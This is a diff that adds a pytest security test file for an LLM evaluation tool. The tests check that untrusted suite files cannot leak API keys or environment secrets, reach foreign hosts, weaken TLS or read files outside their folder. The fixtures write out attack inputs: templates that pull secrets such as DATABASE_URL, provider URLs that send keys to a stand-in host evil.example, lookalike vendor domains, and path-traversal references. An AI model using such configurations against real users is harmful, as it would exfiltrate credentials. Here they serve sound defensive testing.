@@ -1,0 +1,356 @@
+"""What an untrusted suite sees of the environment, whom it asks, and which keys go there."""
+
+import json
+import ssl
+from collections.abc import Mapping
+from pathlib import Path
+from typing import Any
+
+import attrs
+import pytest
+import trio
+
+from trioeval.errors import GradingError, ProviderError, SuiteError
+from trioeval.providers.families import CODE, LOCAL, MODULES
+from trioeval.providers.http import open_http
+from trioeval.providers.vendor_hosts import key_variables, vendor_of
+from trioeval.providers.wire import HttpRequest
+from trioeval.suite import Suite, load_suite, parse_suite
+from trioeval.tasks import PreparedSuite, collect, prepare
+from trioeval.tasks.webhooks import open_webhooks
+
+pytestmark = pytest.mark.attack("keys and reach of an untrusted suite")
+
+KEY = "sk-0123456789abcdef"
+ENVIRON = {
+    "OPENAI_API_KEY": KEY,
+    "ANTHROPIC_API_KEY": KEY,
+    "STRIPE_API_KEY": KEY,
+    "DATABASE_URL": "postgres://me:pw@db",
+    "TRIOEVAL_VIEW_TOKEN": KEY,
+}
+PLAIN: Mapping[str, Any] = {
+    "providers": ["echo"],
+    "prompts": ["{{x}}"],
+    "tests": [{"vars": {"x": "1"}}],
+}
+ELSEWHERE = "https://evil.example/v1"
+
+
+def loaded(said: Mapping[str, Any], *, trusted: bool = False, **more: Any) -> Suite:
+    return parse_suite({**PLAIN, **said}, environ=ENVIRON, trusted=trusted, **more)
+
+
+def ready(
+    said: Mapping[str, Any], environ: Mapping[str, str] = ENVIRON, **more: Any
+) -> PreparedSuite:
+    return prepare(loaded(said, **more), environ=environ)
+
+
+def told(said: Mapping[str, Any], **more: Any) -> list[tuple[str, str, str]]:
+    with pytest.raises(SuiteError) as caught:
+        ready(said, **more)
+    return [(one.path, one.message, one.hint or "") for one in caught.value.problems]
+
+
+def openai(base: str | None = None, prefix: str = "openai:m", **config: Any) -> dict[str, Any]:
+    where = {} if base is None else {"apiBaseUrl": base}
+    return {"providers": [{"id": prefix, "config": {**where, **config}}]}
+
+
+TEMPLATES = {
+    "a name": "{{env.DATABASE_URL}}",
+    "a filter": "{{ env.DATABASE_URL | upper }}",
+    "a subscript": "{{ env['DATABASE_URL'] }}",
+    "a default": "{{ env.DATABASE_URL | default('x') }}",
+    "two": "{{ env.HOME ~ env.DATABASE_URL }}",
+}
+
+
+@pytest.mark.parametrize("template", TEMPLATES.values(), ids=TEMPLATES)
+@pytest.mark.parametrize("place", ["prompt", "variable", "env", "header", "url"])
+def test_the_environment_is_refused_by_name(template: str, place: str, tmp_path: Path) -> None:
+    """Wherever a template of a file names a variable that nobody allowed."""
+    places: dict[str, dict[str, Any]] = {
+        "prompt": {"prompts": [template]},
+        "variable": {"tests": [{"vars": {"x": template}}]},
+        "env": {"env": {"MINE": template}},
+        "header": {"providers": [{"id": ELSEWHERE, "config": {"headers": {"x": template}}}]},
+        "url": {"providers": [f"https://evil.example/?q={template}"]},
+    }
+    file = tmp_path / "suite.json"
+    file.write_text(json.dumps({**PLAIN, **places[place]}))
+    with pytest.raises(SuiteError) as caught:
+        prepare(file, environ={**ENVIRON, "HOME": "/me"}, trusted=False)
+    assert "DATABASE_URL" in str(caught.value)
+    assert "allow it with --allow-env DATABASE_URL" in str(caught.value)
+    assert "postgres" not in str(caught.value)
+
+
+@pytest.mark.parametrize(
+    "template",
+    [
+        "{{ env.DATABASE_URL }}",
+        "{{ env['DATABASE' + '_URL'] }}",
+        "{% for name in env %}{{ name }}{% endfor %}",
+        "{{ env | dump }}",
+        "{% set e = env %}{{ e.TRIOEVAL_VIEW_TOKEN }}",
+        "{% if env.DATABASE_URL %}set{% endif %}",
+    ],
+)
+def test_templates_of_the_run_see_nothing(template: str, monkeypatch: pytest.MonkeyPatch) -> None:
+    """However a template looks, the variables are not there."""
+    for name, value in ENVIRON.items():
+        monkeypatch.setenv(name, value)
+    suite = loaded({"prompts": [f"<{template}>"], "env": {"OWN": "own"}}, allow_env=["HOME"])
+    [row] = trio.run(collect, suite)
+    output = str(row.output)
+    assert not any(part in output for part in ("postgres", KEY, "DATABASE", "TOKEN", "set"))
+
+
+def test_allowed_names_and_the_suites_own_are_seen(tmp_path: Path) -> None:
+    """What the user allows by name, and what the suite says itself."""
+    file = tmp_path / "suite.json"
+    file.write_text(
+        json.dumps({**PLAIN, "env": {"OWN": "o"}, "prompts": ["{{env.TEAM}}{{env.OWN}}{{env.NO}}"]})
+    )
+    suite = load_suite(file, environ={"TEAM": "t"}, trusted=False, allow_env=["TEAM"])
+    assert suite.prompts[0].raw == "to{{env.NO}}"
+
+
+def test_a_file_of_variables_is_the_users_to_name() -> None:
+    """An `.env` that lies beside the suite may be the user's."""
+    assert "$.commandLineOptions.envFile" in str(told({"commandLineOptions": {"envFile": ".env"}}))
+
+
+KEYS_ELSEWHERE: Mapping[str, tuple[dict[str, Any], str]] = {
+    "apiBaseUrl": (openai(ELSEWHERE), "OPENAI_API_KEY"),
+    "apiHost": (openai(apiHost="evil.example"), "OPENAI_API_KEY"),
+    "loopback": (openai("http://127.0.0.1:9/v1"), "OPENAI_API_KEY"),
+    "without TLS": (openai("http://api.openai.com/v1"), "OPENAI_API_KEY"),
+    "a name that looks like it": (openai("https://api.openai.com.evil.example"), "OPENAI_API_KEY"),
+    "another vendor's host": (openai("https://api.anthropic.com/v1"), "OPENAI_API_KEY"),
+    "apiKeyEnvar": (openai(apiKeyEnvar="STRIPE_API_KEY"), "STRIPE_API_KEY"),
+    "apiKeyEnvar of another vendor": (
+        openai(apiKeyEnvar="ANTHROPIC_API_KEY"),
+        "ANTHROPIC_API_KEY",
+    ),
+    "a service of any name": (
+        openai(ELSEWHERE, "openai-api:stripe:m"),
+        "STRIPE_API_KEY",
+    ),
+    "anthropic": (openai(ELSEWHERE, "anthropic:claude"), "ANTHROPIC_API_KEY"),
+    "env of the suite": (
+        {**openai(), "env": {"OPENAI_BASE_URL": ELSEWHERE}},
+        "OPENAI_API_KEY",
+    ),
+    "env of the provider": (
+        {"providers": [{"id": "openai:m", "env": {"OPENAI_API_HOST": "evil.example"}}]},
+        "OPENAI_API_KEY",
+    ),
+    "a judge": (
+        {
+            "defaultTest": {
+                "options": {"provider": {"id": "openai:m", "config": {"apiBaseUrl": ELSEWHERE}}},
+                "assert": [{"type": "llm-rubric", "value": "a"}],
+            }
+        },
+        "OPENAI_API_KEY",
+    ),
+}
+
+
+@pytest.mark.parametrize(("said", "variable"), KEYS_ELSEWHERE.values(), ids=KEYS_ELSEWHERE)
+def test_a_key_of_the_environment_stays_with_its_vendor(
+    said: dict[str, Any], variable: str
+) -> None:
+    """Refused with the variable's name, and with the flag that allows it."""
+    problems = [one for one in told(said) if f"may not send {variable} to " in one[1]]
+    assert problems
+    assert f"--allow-env {variable}" in problems[0][2]
+    assert KEY not in str(problems)
+    # Whoever allows it by name means it; a judge elsewhere stays somebody whom nobody named.
+    if "defaultTest" not in said and variable != "ANTHROPIC_API_KEY":
+        assert ready(said, allow_env=[variable]).specs
+
+
+@pytest.mark.parametrize(
+    ("said", "environ"),
+    [
+        (openai(), ENVIRON),
+        (openai("https://eu.api.openai.com/v1"), ENVIRON),
+        (openai(ELSEWHERE, apiKey="the-suites-own"), ENVIRON),
+        (openai(ELSEWHERE), {**ENVIRON, "OPENAI_API_KEY": ""} | {"OPENAI_API_KEY": KEY}),
+        (openai(), {**ENVIRON, "OPENAI_BASE_URL": "https://gateway.example/v1"}),
+        (openai("http://127.0.0.1:9/v1", "ollama:m"), ENVIRON),
+    ],
+    ids=["vendor", "region", "own key", "elsewhere", "gateway of the user", "local model"],
+)
+def test_what_is_meant_works(
+    said: dict[str, Any], environ: dict[str, str], request: pytest.FixtureRequest
+) -> None:
+    """The vendor, a place that the user's own environment names, and servers without a key."""
+    if "elsewhere" in request.node.name:
+        with pytest.raises(SuiteError):
+            ready(said, environ)
+    else:
+        assert ready(said, environ).hosts
+
+
+def test_hosts_of_vendors_are_exact() -> None:
+    """Nobody else's machine below a vendor's name is the vendor's."""
+    strange = {
+        "AWS_SECRET_ACCESS_KEY": "ec2-1-2-3-4.compute.amazonaws.com x.s3.amazonaws.com",
+        "AZURE_API_KEY": "evil.azurewebsites.net openai.azure.com.evil.example",
+        "OPENAI_API_KEY": "openai.com evil-api.openai.com.example xapi.openai.com",
+        "GEMINI_API_KEY": "evil.appspot.com storage.googleapis.com",
+    }
+    for variable, hosts in strange.items():
+        vendor = vendor_of(variable)
+        assert vendor is not None
+        assert not [host for host in hosts.split() if vendor.owns(host)]
+    own = {
+        "AWS_SECRET_ACCESS_KEY": "bedrock-runtime.us-east-1.amazonaws.com",
+        "AZURE_API_KEY": "mine.openai.azure.com",
+        "GEMINI_API_KEY": "generativelanguage.googleapis.com",
+        "OPENAI_API_KEY": "API.OpenAI.com",
+    }
+    assert all((vendor_of(name) or pytest.fail(name)).owns(host) for name, host in own.items())
+    assert "MISTRAL_API_KEY" in key_variables()
+
+
+def test_every_service_with_a_key_has_hosts_of_its_own() -> None:
+    """A new service says where its keys may go, unless users run it themselves."""
+    own = {"litellm", "llamacpp", "lmstudio", "localai", "ollama", "vllm", "openai-api"}
+    sdks = {prefix for prefix in MODULES if prefix.endswith("-sdk")}
+    servers = MODULES.keys() - CODE - LOCAL - own - sdks - {"http", "https", "bedrock", "vertex"}
+    missing = []
+    for prefix in sorted(servers):
+        with pytest.raises(SuiteError) as caught:
+            prepare(parse_suite({**PLAIN, "providers": [f"{prefix}:m"]}), environ={})
+        hints = " ".join(one.hint or "" for one in caught.value.problems)
+        if not any(name in hints for name in key_variables()):
+            missing.append((prefix, hints))
+    assert missing == []
+
+
+@pytest.mark.parametrize(
+    ("said", "place"),
+    [
+        ({"tests": [{"assert": [{"type": "webhook", "value": ELSEWHERE}]}]}, "assert[0].value"),
+        (
+            {"tests": [{"assert": [{"type": "webhook", "value": "https://{{x}}.example"}]}]},
+            "assert[0].value",
+        ),
+        (
+            {
+                "tests": [
+                    {"assert": [{"type": "webhook", "value": "https://api.example@evil.example"}]}
+                ]
+            },
+            "assert[0].value",
+        ),
+        (
+            {
+                "defaultTest": {
+                    "options": {"provider": "https://evil.example/judge"},
+                    "assert": [{"type": "llm-rubric", "value": "a"}],
+                }
+            },
+            "provider",
+        ),
+        ({"quota": {"backend": "redis", "url": "redis://evil.example"}}, "$.quota.backend"),
+        ({"quota": {"backend": "http", "url": "http://evil.example"}}, "$.quota.backend"),
+        ({"providers": ["https://{{x}}/v1"]}, "$.providers[0].id"),
+        ({"providers": [{"id": "https", "config": {"url": "{{base}}/v1"}}]}, "$.providers[0]"),
+    ],
+)
+def test_nobody_is_asked_but_providers(said: dict[str, Any], place: str) -> None:
+    """Servers that judge, keep limits or are made of variables are refused at their place."""
+    problems = told({"providers": ["https://api.example/v1"], **said})
+    assert any(place in path and "untrusted suite" in text for path, text, _ in problems), problems
+
+
+def test_the_network_is_fenced_at_the_client_too() -> None:
+    """A redirect, a rendered URL, a token's server: whatever was not seen before goes nowhere."""
+
+    async def send() -> None:
+        hosts = frozenset({"api.example"})
+        async with open_http(hosts=hosts) as client:
+            with pytest.raises(ProviderError, match="not a host of the suite's providers"):
+                await client.send(HttpRequest("http://127.0.0.1:9/", {}, None))
+        async with open_webhooks({}, hosts=hosts) as webhooks:
+            with pytest.raises(GradingError, match="not a host of the suite's providers"):
+                await webhooks.post("http://127.0.0.1:9/", {})
+
+    trio.run(send)
+
+
+@pytest.mark.parametrize("prefix", ["TRIOEVAL", "PROMPTFOO"])
+def test_an_untrusted_suite_does_not_say_which_servers_are_believed(
+    prefix: str, tmp_path: Path
+) -> None:
+    """Its settings are ignored with a warning; those of the user's environment hold."""
+    (tmp_path / "ca.pem").write_text("none")
+    own = {f"{prefix}_INSECURE_SSL": "true", f"{prefix}_CA_CERT_PATH": str(tmp_path / "ca.pem")}
+    prepared = ready({"env": own})
+    assert (prepared.trust.verify, prepared.trust.ca) == (True, None)
+    assert [one.path for one in prepared.warnings] == [f"$.env.{name}" for name in own]
+    mine = {**ENVIRON, f"{prefix}_INSECURE_SSL": "true"}
+    assert not ready({"env": {}}, mine).trust.verify
+    assert ssl.CERT_REQUIRED  # what is meant by verify
+
+
+def test_files_stay_in_the_folder(tmp_path: Path) -> None:
+    """Nothing that a suite says widens its folder, also not for its tasks."""
+    (tmp_path / "secret.txt").write_text("secret")
+    folder = tmp_path / "suite"
+    folder.mkdir()
+    for reference in ("file://../secret.txt", f"file://{tmp_path}/./secret.txt"):
+        for said in (
+            {"tests": [{"vars": {"x": reference}}]},
+            {"allowOutside": True, "prompts": [reference]},
+            {"roots": ["/"], "prompts": [reference]},
+        ):
+            with pytest.raises(SuiteError, match="outside of the suite's folder"):
+                loaded(said, directory=folder)
+
+
+def test_a_trusted_suite_is_warned_of_keys_that_go_elsewhere() -> None:
+    """Once for each variable and host, whatever the number of providers."""
+    entries: list[Any] = [
+        {"id": f"openai:{name}", "config": {"apiBaseUrl": ELSEWHERE}} for name in ("a", "b")
+    ]
+    headers = {"headers": {"x": "{{env.ANTHROPIC_API_KEY}}"}}
+    entries += [{"id": "https://other.example/", "config": headers}, "openai:c", "ollama:d"]
+    prepared = ready({"providers": entries}, trusted=True)
+    assert [(one.path, one.message) for one in prepared.warnings] == [
+        (
+            "$.providers[0]",
+            "OPENAI_API_KEY goes to evil.example, which is not a host of its vendor",
+        ),
+        (
+            "$.providers[2]",
+            "ANTHROPIC_API_KEY goes to other.example, which is not a host of its vendor",
+        ),
+    ]
+    gateway = {**ENVIRON, "OPENAI_BASE_URL": "https://gateway.example/v1"}
+    assert not ready(openai(), gateway, trusted=True).warnings
+    tasks = [
+        {"id": name, "type": "prompt_eval", "prompts": ["a"], "providers": entries[:1]}
+        for name in ("one", "two")
+    ]
+    several = parse_suite({"tasks": tasks}, environ=ENVIRON)
+    assert [one.path for one in prepare(several, environ=ENVIRON).warnings] == [
+        "$.tasks[0].providers[0]"
+    ]
+
+
+def test_trust_belongs_to_every_task() -> None:
+    """A task is no suite of its own with rights of its own."""
+    suite = parse_suite(
+        {"tasks": [{"id": "a", "type": "prompt_eval", "prompts": ["a"], "providers": ["echo"]}]},
+        trusted=False,
+    )
+    assert [task.suite.trust.trusted for task in suite.tasks] == [False]
+    assert attrs.evolve(suite, description="b").trust == suite.trust
